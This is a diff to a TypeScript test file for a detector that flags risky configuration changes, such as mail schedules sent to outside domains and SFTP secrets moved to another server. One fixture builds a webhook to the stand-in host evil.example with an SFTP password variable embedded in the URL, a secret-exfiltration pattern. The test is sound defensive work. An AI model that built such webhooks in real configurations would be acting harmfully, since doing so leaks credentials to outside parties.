@@ -111,7 +111,7 @@ describe('a place that receives something for the first time is a danger', () =>
   test('also where it is adopted, because nobody has looked', () => {
     const desired = declare({ 'schedules.a': mail('b@evil.example') }, { adopt: [['schedules.a', 'an-id']] });
     const { plan: adopting } = plan(desired, undefined, { operations: 'full' });
-    expect(found(findDangers(adopting, { desired, state: undefined, internalDomains }))).toEqual([
+    expect(found(findDangers(adopting, { state: undefined, internalDomains }))).toEqual([
       'outside-domain: evil.example',
     ]);
   });
@@ -156,7 +156,7 @@ describe('a secret that goes to another place is a danger', () => {
   const named = (name: string) => ({ $secret: 'f', text: `\${env.${name}}` });
 
   test('when the server of a schedule changes', () => {
-    const password = { passwordUnencrypted: { $secret: 'f' } };
+    const password = { passwordUnencrypted: { $secret: 'f', text: '(sensitive)' } };
     const dangers = dangersOf(
       { 'schedules.a': sftp('sftp.evil.example', password) },
       { 'schedules.a': sftp('sftp.partner.example', password) },
@@ -168,13 +168,12 @@ describe('a secret that goes to another place is a danger', () => {
     const state = stateOf({
       'schedules.a': sftp('sftp.partner.example', { passwordUnencrypted: named('SFTP_PASSWORD') }),
     });
-    const desired = declare({});
     const change = {
       ...plan(declare({ 'schedules.b': hook('https://evil.example/') }), undefined).changes[0],
       after: hook('https://evil.example/${env.SFTP_PASSWORD}'),
     } as const;
     const { plan: empty } = plan(declare({}), undefined);
-    const dangers = findDangers({ ...empty, changes: [change as never] }, { desired, state, internalDomains });
+    const dangers = findDangers({ ...empty, changes: [change as never] }, { state, internalDomains });
     const moved = dangers.find(({ code }) => code === 'secret-elsewhere');
     expect(moved?.gravity).toBe('grave');
     expect(moved?.items).toEqual([
@@ -183,7 +182,7 @@ describe('a secret that goes to another place is a danger', () => {
   });
 
   test('but not when only its path changes', () => {
-    const password = { passwordUnencrypted: { $secret: 'f' } };
+    const password = { passwordUnencrypted: { $secret: 'f', text: '(sensitive)' } };
     const dangers = dangersOf(
       { 'schedules.a': sftp('sftp.partner.example', { ...password, path: '/other' }) },
       { 'schedules.a': sftp('sftp.partner.example', password) },
